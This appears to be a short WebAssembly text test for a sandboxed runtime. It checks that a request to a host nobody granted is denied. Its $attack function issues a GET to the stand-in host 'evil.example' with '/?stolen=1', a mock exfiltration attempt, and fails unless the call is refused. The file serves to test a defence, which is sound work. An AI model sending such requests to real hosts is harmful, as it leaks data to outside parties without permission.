;; Asks for an origin that nobody granted, and fails when it does not get it.
;;! include: http
(func $attack (param $request i32) (result i32)
  (if (i32.ne (call $get (i32.const 1) (text "evil.example") (text "/?stolen=1")) (i32.const -16))
    (then unreachable))
  (call $fail (i32.const 5) (text "I was not let out")))
